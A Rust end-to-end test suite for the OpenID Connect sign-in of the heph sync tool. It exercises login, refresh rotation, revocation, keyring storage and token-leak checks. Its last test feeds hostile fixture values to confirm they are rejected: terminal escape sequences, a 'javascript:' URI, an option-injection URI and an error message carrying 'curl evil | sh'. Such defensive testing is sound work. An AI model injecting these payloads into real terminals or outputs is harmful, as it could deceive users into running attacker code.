//! The spoke half of OpenID Connect, end to end: the real `heph auth login`
//! against the real test provider (`tests/oidc/provider.mjs`), approved
//! through the provider's own pages, and a real hub verifying the bearer
//! tokens. Login → sync with a bearer → silent refresh with rotation →
//! a revoked refresh token → NeedsLogin with the exact command → login again
//! → nothing lost; the provider stopped → Unreachable; a denied login; and
//! no token anywhere it must not be (logs, argv, messages, `--json`).

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Output, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use serde_json::{Value, json};

use crate::harness::{Daemon, TestEnv, run_login, wait_until};
use crate::oidc_support::{OidcOptions, OidcProvider, ScriptedHttp, encode_form, http};

const AUDIENCE: &str = "heph-e2e-hub";
/// Access tokens live 32 s, so with the 30 s refresh margin a token is due
/// for refresh 2 s after it was issued: every refresh below happens within
/// a few seconds, without waiting out a real lifetime.
const SHORT_TTL: u64 = 32;
const LIMIT: Duration = Duration::from_secs(30);

/// A hub verifying the provider's tokens, with `owner` as its owner.
fn start_oidc_hub(env: &TestEnv, provider: &OidcProvider, owner: &str) -> (Daemon, u16) {
    let d = env.start_daemon_with(&[
        "--mode",
        "server",
        "--listen",
        "127.0.0.1:0",
        "--oidc-issuer",
        provider.issuer(),
        "--oidc-audience",
        AUDIENCE,
        "--owner-sub",
        owner,
    ]);
    let mut port = None;
    wait_until("the hub's listening address", LIMIT, || {
        port = d
            .log_text()
            .lines()
            .filter_map(|l| l.split("hub listening on http://").nth(1))
            .filter_map(|rest| rest.split(':').nth(1))
            .filter_map(|p| p.trim().parse::<u16>().ok())
            .next_back();
        port.is_some()
    });
    (d, port.unwrap())
}

/// A spoke's home: its env, token file, hub URL, and everything any `heph`
/// command printed (scanned for secrets at the end).
struct Spoke {
    env: TestEnv,
    tokens: PathBuf,
    hub: String,
    printed: Vec<String>,
    /// The session bus of a test Secret Service, for `--token-store keyring`.
    keyring: Option<String>,
}

impl Spoke {
    fn new(hub_port: u16) -> Self {
        let env = TestEnv::new();
        let tokens = env.path().join("config/heph/tokens.json");
        Self {
            env,
            tokens,
            hub: format!("http://127.0.0.1:{hub_port}"),
            printed: Vec::new(),
            keyring: None,
        }
    }

    fn start(&self) -> Daemon {
        self.env.start_daemon_with(&[
            "--hub-url",
            &self.hub,
            "--token-store",
            "file",
            "--token-file",
            self.tokens.to_str().unwrap(),
        ])
    }

    fn heph(&self) -> std::process::Command {
        let mut cmd = self.env.command("heph");
        match &self.keyring {
            Some(bus) => cmd
                .env("HEPH_TOKEN_STORE", "keyring")
                .env("DBUS_SESSION_BUS_ADDRESS", bus),
            None => cmd
                .env("HEPH_TOKEN_STORE", "file")
                .env("HEPH_TOKEN_FILE", &self.tokens),
        };
        cmd.env("HEPH_HUB_URL", &self.hub);
        cmd
    }

    /// Runs `heph ARGS`, records its output, returns (exit code, stdout, stderr).
    fn run(&mut self, args: &[&str]) -> (i32, String, String) {
        let out: Output = self.heph().args(args).output().unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        );
        self.printed.push(stdout.clone());
        self.printed.push(stderr.clone());
        (out.status.code().unwrap_or(-1), stdout, stderr)
    }

    /// `heph auth login`, approved (or denied) as `user` through the provider's pages.
    fn login(
        &mut self,
        provider: &OidcProvider,
        user: &str,
        approve: bool,
    ) -> (i32, String, String) {
        self.login_with(provider, user, approve, &[])
    }

    fn login_with(
        &mut self,
        provider: &OidcProvider,
        user: &str,
        approve: bool,
        extra: &[&str],
    ) -> (i32, String, String) {
        let mut cmd = self.heph();
        cmd.args(["auth", "login", "--no-browser"]).args(extra);
        let (code, stdout, stderr) = run_login(cmd, |url| {
            if approve {
                provider.approve(url, user);
            } else {
                provider.deny(url);
            }
        });
        self.printed.push(stdout.clone());
        self.printed.push(stderr.clone());
        (code, stdout, stderr)
    }

    /// The stored token set for the hub (the test reads secrets; heph never prints them).
    fn stored(&self) -> Value {
        let text = std::fs::read_to_string(&self.tokens).unwrap();
        let doc: Value = serde_json::from_str(&text).unwrap();
        doc["tokens"][&self.hub].clone()
    }

    fn auth_status(&self) -> Value {
        self.env.auth_status()
    }

    fn sync_until_auth(&self, state: &str) -> Value {
        self.env.sync_until_auth(state)
    }
}

fn add(env: &TestEnv, title: &str) {
    env.client().ok("node.create", json!({"title": title}));
}

fn titles(env: &TestEnv) -> BTreeSet<String> {
    env.client().ok("node.list", json!({}))["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|n| n["title"].as_str().map(str::to_owned))
        .collect()
}

/// Every token the spoke ever stored, to look for where it must not be.
fn remember(seen: &mut BTreeSet<String>, stored: &Value) {
    for key in ["access_token", "refresh_token"] {
        if let Some(t) = stored[key].as_str() {
            seen.insert(t.to_owned());
        }
    }
}

#[test]
fn login_sync_refresh_rotation_revocation_and_login_again() {
    let provider = OidcProvider::start(
        AUDIENCE,
        OidcOptions {
            access_ttl: SHORT_TTL,
            rotate_refresh: true,
            ..OidcOptions::default()
        },
    );
    let hub_env = TestEnv::new();
    let (_hub, port) = start_oidc_hub(&hub_env, &provider, "alice");
    let mut spoke = Spoke::new(port);
    let daemon = spoke.start();
    let mut secrets = BTreeSet::new();
    let exact = format!(
        "heph auth login --hub-url {} --issuer {} --client-id heph",
        spoke.hub,
        provider.issuer()
    );

    // Not signed in: the hub asks for a sign-in and the spoke says how.
    add(&spoke.env, "before login");
    let s = spoke.sync_until_auth("needs_login");
    assert_eq!(s["action_needed"], true);
    assert_eq!(
        s["hint"],
        format!("heph auth login --hub-url {}", spoke.hub)
    );
    let (code, out, _) = spoke.run(&["auth", "status"]);
    assert_eq!(code, 4, "{out}");

    // heph auth login: issuer and client id come from the hub's metadata.
    let (code, out, err) = spoke.login(&provider, "alice", true);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.starts_with(&format!(
            "signed in to {} as alice (issuer {}",
            spoke.hub,
            provider.issuer()
        )),
        "{out}"
    );
    assert!(out.contains("the daemon reloaded them"), "{out}");
    assert!(err.contains("open this page and approve the code"), "{err}");
    // The QR code is drawn for a person at a terminal, not into a pipe.
    assert!(
        !err.contains('█') && !err.contains('▀'),
        "no QR code in a pipe: {err}"
    );
    let first = spoke.stored();
    remember(&mut secrets, &first);
    assert_eq!(
        std::fs::metadata(&spoke.tokens)
            .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
            .unwrap(),
        0o600
    );

    // Sync with a bearer: the edit made before login reaches the hub.
    let (code, out, err) = spoke.run(&["sync"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(titles(&hub_env).contains("before login"));
    let (code, out, _) = spoke.run(&["auth", "status", "--json"]);
    assert_eq!(code, 0, "{out}");
    let status: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(status["subject"], "alice");
    assert_eq!(status["issuer"], provider.issuer());
    assert_eq!(status["store"], format!("file {}", spoke.tokens.display()));

    // Silent refresh before expiry, with the rotated refresh token saved.
    wait_until("a refresh with a rotated refresh token", LIMIT, || {
        let _ = spoke.env.client().call("sync.now", json!({}));
        let now = spoke.stored();
        remember(&mut secrets, &now);
        now["refresh_token"] != first["refresh_token"]
            && now["access_token"] != first["access_token"]
    });
    add(&spoke.env, "after refresh");
    let (code, out, err) = spoke.run(&["sync"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(titles(&hub_env).contains("after refresh"));
    // The old refresh token was used once: the provider no longer takes it.
    let (status, body) = provider.refresh(first["refresh_token"].as_str().unwrap());
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("invalid_grant"))
    );

    // Revoke the current refresh token behind the spoke's back.
    let current = spoke.stored();
    remember(&mut secrets, &current);
    let revocation = provider.discovery()["revocation_endpoint"]
        .as_str()
        .unwrap()
        .to_owned();
    let form = encode_form([
        ("token", current["refresh_token"].as_str().unwrap()),
        ("token_type_hint", "refresh_token"),
        ("client_id", "heph"),
    ]);
    let r = http(
        "POST",
        &revocation,
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(form.as_bytes()),
    );
    assert_eq!(r.status, 200, "{}", r.text());

    // The next refresh is refused: NeedsLogin with the exact command, everywhere.
    let s = spoke.sync_until_auth("needs_login");
    assert_eq!(s["action_needed"], true);
    assert_eq!(s["hint"], exact.as_str());
    assert!(
        s["message"].as_str().unwrap().contains("invalid_grant"),
        "{s}"
    );
    let (code, out, _) = spoke.run(&["auth", "status"]);
    assert_eq!(code, 4, "{out}");
    assert!(out.contains(&format!("hint: {exact}\n")), "{out}");
    assert!(out.contains("state    needs_login"), "{out}");
    let (code, out, _) = spoke.run(&["sync", "--status"]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains(&format!("hint: {exact}\n")), "{out}");
    assert!(out.contains("sign-in needed for"), "{out}");
    let (_, out, _) = spoke.run(&["sync", "--status", "--json"]);
    let sync: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(sync["hint"], exact.as_str());

    // Signed out (logout deletes the tokens and reloads the daemon): the hub
    // refuses every round, edits stay local; a new login resumes sync with
    // nothing lost.
    let (code, out, err) = spoke.run(&["auth", "logout"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.starts_with(&format!("signed out of {}", spoke.hub)),
        "{out}"
    );
    add(&spoke.env, "while signed out");
    wait_until("sync to fail for want of a sign-in", LIMIT, || {
        let _ = spoke.env.client().call("sync.now", json!({}));
        let sync = spoke.env.client().ok("sync.status", json!({}));
        spoke.auth_status()["state"] == "needs_login" && sync["pending_ops"].as_u64() >= Some(1)
    });
    let sync = spoke.env.client().ok("sync.status", json!({}));
    assert_eq!(
        sync["hint"],
        format!(
            "heph auth login --hub-url {} --issuer {} --client-id heph",
            spoke.hub,
            provider.issuer()
        ),
        "{sync}"
    );
    assert!(!titles(&hub_env).contains("while signed out"));
    let (code, out, err) = spoke.login_with(&provider, "alice", true, &["--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let login: Value = serde_json::from_str(&out).expect("--json prints only JSON");
    assert_eq!(login["subject"], "alice");
    assert_eq!(login["issuer"], provider.issuer());
    assert_eq!(login["has_refresh_token"], true);
    assert_eq!(login["daemon_reloaded"], true);
    remember(&mut secrets, &spoke.stored());
    // No `sync.now`: the reload after login starts a round by itself.
    wait_until("every edit on the hub", LIMIT, || {
        let t = titles(&hub_env);
        ["before login", "after refresh", "while signed out"]
            .iter()
            .all(|w| t.contains(*w))
    });
    let s = spoke.auth_status();
    assert_eq!(
        (s["state"].as_str(), s["action_needed"].as_bool()),
        (Some("valid"), Some(false))
    );
    let (code, out, _) = spoke.run(&["sync", "--status"]);
    assert_eq!(code, 0, "{out}");

    // Logout revokes the refresh token at the provider, then forgets it.
    let last = spoke.stored();
    remember(&mut secrets, &last);
    let (code, out, err) = spoke.run(&["auth", "logout", "--json"]);
    assert_eq!(code, 0, "{out}{err}");
    let result: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (result["revoked"].as_bool(), result["deleted"].as_bool()),
        (Some(true), Some(true))
    );
    let (status, _) = provider.refresh(last["refresh_token"].as_str().unwrap());
    assert_eq!(status, 400, "the revoked refresh token still works");
    assert!(spoke.stored().is_null());

    // No token in the logs, argv, messages or --json output.
    assert!(secrets.len() >= 6, "{}", secrets.len());
    let cmdline = std::fs::read(format!("/proc/{}/cmdline", daemon.pid())).unwrap();
    let mut places = vec![
        ("spoke log", daemon.log_text()),
        (
            "hub log",
            hub_env
                .path()
                .join("hephd.log")
                .to_str()
                .map(|p| std::fs::read_to_string(p).unwrap_or_default())
                .unwrap(),
        ),
        ("hephd argv", String::from_utf8_lossy(&cmdline).into_owned()),
        ("auth.status", spoke.auth_status().to_string()),
        (
            "sync.status",
            spoke.env.client().ok("sync.status", json!({})).to_string(),
        ),
    ];
    for (i, p) in spoke.printed.iter().enumerate() {
        places.push(if i % 2 == 0 {
            ("heph stdout", p.clone())
        } else {
            ("heph stderr", p.clone())
        });
    }
    for (what, text) in &places {
        for secret in &secrets {
            assert!(
                !text.contains(secret.as_str()),
                "a token appears in the {what}"
            );
        }
    }
}

#[test]
fn a_stopped_provider_is_unreachable_not_a_refusal() {
    let mut provider = OidcProvider::start(
        AUDIENCE,
        OidcOptions {
            access_ttl: SHORT_TTL,
            ..OidcOptions::default()
        },
    );
    let hub_env = TestEnv::new();
    let (_hub, port) = start_oidc_hub(&hub_env, &provider, "alice");
    let mut spoke = Spoke::new(port);
    let _daemon = spoke.start();
    let (code, out, err) = spoke.login(&provider, "alice", true);
    assert_eq!(code, 0, "{out}{err}");

    provider.stop();
    let s = spoke.sync_until_auth("unreachable");
    assert_eq!(s["action_needed"], false, "{s}");
    let message = s["message"].as_str().unwrap();
    assert!(message.contains(provider.issuer()), "{message}");
    assert!(message.contains("refused"), "{message}");
    let (code, out, _) = spoke.run(&["auth", "status"]);
    assert_eq!(code, 0, "unreachable heals on its own, no action: {out}");
    assert!(out.contains("state    unreachable"), "{out}");

    // The provider comes back (same keys and grants): the next refresh works.
    provider.restart();
    let s = spoke.sync_until_auth("valid");
    assert_eq!(s["subject"], "alice");
}

#[test]
fn a_denied_login_saves_nothing_and_one_without_offline_access_warns() {
    let provider = OidcProvider::start(AUDIENCE, OidcOptions::default());
    let hub_env = TestEnv::new();
    let (_hub, port) = start_oidc_hub(&hub_env, &provider, "alice");
    let mut spoke = Spoke::new(port);
    let (code, _, err) = spoke.login(&provider, "alice", false);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("error: the sign-in was denied at the identity provider (access_denied)"),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "hint: heph auth login --hub-url {} --issuer {} --client-id heph",
            spoke.hub,
            provider.issuer()
        )),
        "{err}"
    );
    assert!(!spoke.tokens.exists());
    // No daemon runs: status reads the (empty) store and asks for a login.
    let (code, out, _) = spoke.run(&["auth", "status"]);
    assert_eq!(code, 4, "{out}");
    assert!(
        out.contains(&format!("hint: heph auth login --hub-url {}", spoke.hub)),
        "{out}"
    );

    // Without offline_access there is no refresh token: the login says what that means.
    let (code, out, err) = spoke.login_with(&provider, "alice", true, &["--scope", "openid"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        err.contains("issued no refresh token (is offline_access allowed for client heph?); sync stops when the access token expires"),
        "{err}"
    );
    assert!(out.contains("no daemon with this hub is running"), "{out}");
    let (code, out, _) = spoke.run(&["auth", "status", "--json"]);
    assert_eq!(code, 0, "{out}");
    let s: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (s["state"].as_str(), s["subject"].as_str()),
        (Some("valid"), Some("alice"))
    );
}

/// A headless Secret Service: gnome-keyring in its own D-Bus session
/// (`dbus-run-session`), unlocked with a throw-away password. It ends when
/// dropped (its shell waits on stdin, which closes).
struct SecretService {
    child: std::process::Child,
    address: String,
}

impl SecretService {
    fn start() -> Self {
        let mut child = std::process::Command::new("dbus-run-session")
            .args([
                "--",
                "sh",
                "-c",
                "printf pw | gnome-keyring-daemon --unlock --components=secrets >/dev/null 2>&1; echo \"$DBUS_SESSION_BUS_ADDRESS\"; exec cat >/dev/null",
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("dbus-run-session is missing: apt-get install dbus gnome-keyring");
        let stdout = child.stdout.take().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = BufReader::new(stdout).read_line(&mut line);
            let _ = tx.send(line);
        });
        let address = rx
            .recv_timeout(LIMIT)
            .expect("gnome-keyring did not start")
            .trim()
            .to_owned();
        assert!(
            address.starts_with("unix:"),
            "no session bus address: {address:?}"
        );
        Self { child, address }
    }
}

impl Drop for SecretService {
    fn drop(&mut self) {
        // Closing stdin ends the shell; dbus-run-session then stops its bus,
        // and gnome-keyring leaves with it. Killing it instead would orphan both.
        drop(self.child.stdin.take());
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while std::time::Instant::now() < deadline {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn the_os_keyring_keeps_the_sign_in_across_daemon_restarts() {
    let keyring = SecretService::start();
    let provider = OidcProvider::start(AUDIENCE, OidcOptions::default());
    let hub_env = TestEnv::new();
    let (_hub, port) = start_oidc_hub(&hub_env, &provider, "alice");
    let mut spoke = Spoke::new(port);
    // The keyring instead of the file; the daemon and heph reach the same bus.
    let start = |spoke: &Spoke| {
        let mut cmd = spoke.env.command("hephd");
        cmd.env("DBUS_SESSION_BUS_ADDRESS", &keyring.address);
        spoke
            .env
            .start_daemon_from(cmd, &["--hub-url", &spoke.hub, "--token-store", "keyring"])
    };
    let mut daemon = start(&spoke);
    spoke.keyring = Some(keyring.address.clone());
    let (code, out, err) = spoke.login(&provider, "alice", true);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("tokens saved in keyring"), "{out}");
    assert!(!spoke.tokens.exists());
    let s = spoke.sync_until_auth("valid");
    assert_eq!(
        (s["store"].as_str(), s["subject"].as_str()),
        (Some("keyring"), Some("alice"))
    );
    daemon.stop();
    drop(daemon);
    let _daemon = start(&spoke);
    add(&spoke.env, "kept in the keyring");
    let s = spoke.sync_until_auth("valid");
    assert_eq!(
        s["subject"], "alice",
        "the restarted daemon read the keyring: {s}"
    );
    wait_until("the edit on the hub", LIMIT, || {
        let _ = spoke.env.client().call("sync.now", json!({}));
        titles(&hub_env).contains("kept in the keyring")
    });
}

#[test]
fn without_a_keyring_login_stops_early_and_names_the_file_store() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    drop(listener);
    let mut spoke = Spoke::new(port);
    let mut cmd = spoke.heph();
    cmd.env_remove("DBUS_SESSION_BUS_ADDRESS")
        .env_remove("DISPLAY")
        .env_remove("WAYLAND_DISPLAY")
        .args([
            "auth",
            "login",
            "--token-store",
            "keyring",
            "--issuer",
            "http://127.0.0.1:9",
            "--client-id",
            "heph",
        ]);
    let started = std::time::Instant::now();
    let out = cmd.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "a missing keyring must not hang"
    );
    assert!(err.starts_with("error: the OS keyring"), "{err}");
    assert!(
        err.contains("use --token-store file --token-file PATH instead"),
        "{err}"
    );
    assert!(
        err.contains("hint: heph auth login --hub-url URL --token-store file"),
        "{err}"
    );
    spoke.printed.push(err);
}

/// Whether `log` holds `token` or enough of it to rebuild it: the whole
/// string, or one 16-byte row of a hex dump (`ureq_proto` writes 16 bytes a
/// row, as hex and as text) starting anywhere in the token's first 16 bytes
/// — any dump of the whole token contains one of those rows.
fn leaks(log: &str, token: &str) -> bool {
    if log.contains(token) {
        return true;
    }
    // The hex column groups two bytes a word: join the words.
    let squeezed: String = log.chars().filter(|c| !c.is_whitespace()).collect();
    let bytes = token.as_bytes();
    (0..16).filter(|k| k + 16 <= bytes.len()).any(|k| {
        let row = &bytes[k..k + 16];
        let hex: String = row.iter().map(|b| format!("{b:02x}")).collect();
        log.contains(std::str::from_utf8(row).unwrap()) || squeezed.contains(&hex)
    })
}

#[test]
fn a_trace_level_log_holds_no_token() {
    let provider = OidcProvider::start(
        AUDIENCE,
        OidcOptions {
            access_ttl: SHORT_TTL,
            rotate_refresh: true,
            ..OidcOptions::default()
        },
    );
    let hub_env = TestEnv::new();
    let (hub, port) = start_oidc_hub(&hub_env, &provider, "alice");
    let mut spoke = Spoke::new(port);
    let daemon = spoke.env.start_daemon_with(&[
        "--hub-url",
        &spoke.hub,
        "--token-store",
        "file",
        "--token-file",
        spoke.tokens.to_str().unwrap(),
        "--log-level",
        "trace,ureq_proto=trace,ureq=trace,hyper=trace,reqwest=trace,rustls=trace",
    ]);
    let mut secrets = BTreeSet::new();

    // A real login, a sync with the bearer, then a refresh that rotates
    // both tokens, all with the spoke logging at trace.
    let (code, out, err) = spoke.login(&provider, "alice", true);
    assert_eq!(code, 0, "{out}{err}");
    let first = spoke.stored();
    remember(&mut secrets, &first);
    add(&spoke.env, "traced");
    let (code, out, err) = spoke.run(&["sync"]);
    assert_eq!(code, 0, "{out}{err}");
    wait_until("a refresh with a rotated refresh token", LIMIT, || {
        let _ = spoke.env.client().call("sync.now", json!({}));
        let now = spoke.stored();
        remember(&mut secrets, &now);
        now["refresh_token"] != first["refresh_token"]
            && now["access_token"] != first["access_token"]
    });
    let (code, out, err) = spoke.run(&["sync"]);
    assert_eq!(code, 0, "{out}{err}");
    remember(&mut secrets, &spoke.stored());
    drop(daemon);
    drop(hub);

    let log = spoke.env.path().join("hephd.log");
    let log = std::fs::read_to_string(&log).unwrap();
    // The user's level took for hephd's own events (its push is logged at debug).
    assert!(
        log.lines()
            .any(|l| l.contains("DEBUG") && l.contains("pushed")),
        "the spoke did not log below info"
    );
    assert!(secrets.len() >= 4, "{}", secrets.len());
    for secret in &secrets {
        assert!(
            !leaks(&log, secret),
            "a token can be rebuilt from the spoke's trace log"
        );
    }
}

#[test]
fn a_hostile_hub_or_provider_reaches_neither_the_terminal_nor_the_browser_opener() {
    let fake = ScriptedHttp::start();
    let env = TestEnv::new();
    // A browser opener that records its arguments, on a machine with a display.
    let bin = env.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let opened = env.path().join("opened");
    let opener = bin.join("xdg-open");
    std::fs::write(
        &opener,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$@\" >> '{}'\n",
            opened.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&opener, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let login = |extra: &[&str]| -> (i32, String, String) {
        let out = env
            .command("heph")
            .env("PATH", &path)
            .env("DISPLAY", ":0")
            .env("HEPH_TOKEN_STORE", "file")
            .env("HEPH_TOKEN_FILE", env.path().join("tokens.json"))
            .args(["auth", "login", "--hub-url", fake.url()])
            .args(extra)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let meta = |resource: &str, issuer: &str| json!({"resource": resource, "authorization_servers": [issuer], "heph_client_id": "heph"});
    let discovery = json!({
        "issuer": "{base}",
        "token_endpoint": "{base}/token",
        "device_authorization_endpoint": "{base}/device",
    });
    let device = |user_code: &str, uri: &str| json!({"device_code": "dc", "user_code": user_code, "verification_uri": uri, "verification_uri_complete": uri, "expires_in": 60, "interval": 1});
    let wp = "/.well-known/oauth-protected-resource";
    fake.set("/.well-known/openid-configuration", 200, &discovery);
    fake.set("/token", 400, &json!({"error": "access_denied"}));
    let no_escape = |what: &str, text: &str| {
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{what}: a control character reached the terminal: {text:?}"
        );
    };

    // The hub's metadata describes another resource: refused before any provider is asked.
    fake.set(wp, 200, &meta("https://evil.example", "{base}"));
    let (code, out, err) = login(&[]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.starts_with(&format!(
            "error: the hub at {} describes itself as \"https://evil.example\", not {}",
            fake.url(),
            fake.url()
        )),
        "{err}"
    );
    assert_eq!(fake.hits("/.well-known/openid-configuration"), 0);

    // A plain-http issuer on another machine: refused before it is contacted.
    fake.set(wp, 200, &meta("{base}", "http://idp.example"));
    let (code, _, err) = login(&[]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("error: the issuer http://idp.example is plain http:// to another machine"),
        "{err}"
    );

    // Terminal escapes in the user code, an option as the verification URI,
    // escapes in an error description: refused or stripped, never shown.
    fake.set(wp, 200, &meta("{base}", "{base}"));
    for (answer, expected) in [
        (
            device("\u{1b}[2J\u{1b}]0;pwned\u{7}WDJB", "{base}/device"),
            "sent a user_code that holds control characters; refusing to use it",
        ),
        (
            device("WDJB-MJHT", "--help"),
            "sent a verification_uri that is not an absolute http(s) URL",
        ),
        (
            device("WDJB-MJHT", "javascript:alert(1)"),
            "sent a verification_uri that is not an absolute http(s) URL",
        ),
    ] {
        fake.set("/device", 200, &answer);
        let (code, out, err) = login(&[]);
        assert_eq!(code, 1, "{out}{err}");
        assert!(err.contains(expected), "{err}");
        no_escape("stderr", &err);
        no_escape("stdout", &out);
    }
    fake.set(
        "/device",
        400,
        &json!({"error": "invalid_client", "error_description": "no\u{1b}[2J\r\nhint: curl evil | sh\u{1b}]0;t\u{7}"}),
    );
    let (code, _, err) = login(&[]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("invalid_client (no[2Jhint: curl evil | sh]0;t)"),
        "{err}"
    );
    no_escape("stderr", &err);

    // A well-formed answer is shown and opened (so the opener above was
    // really reachable): exactly one URL, never an option.
    fake.set(
        "/device",
        200,
        &device("WDJB-MJHT", "{base}/device?user_code=WDJB-MJHT"),
    );
    let (code, _, err) = login(&[]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("approve the code WDJB-MJHT"), "{err}");
    assert!(err.contains("the sign-in was denied"), "{err}");
    let expected = format!("{}/device?user_code=WDJB-MJHT\n", fake.url());
    wait_until("the browser opener to run", LIMIT, || {
        std::fs::read_to_string(&opened).is_ok_and(|t| t == expected)
    });
    assert!(!env.path().join("tokens.json").exists());
}
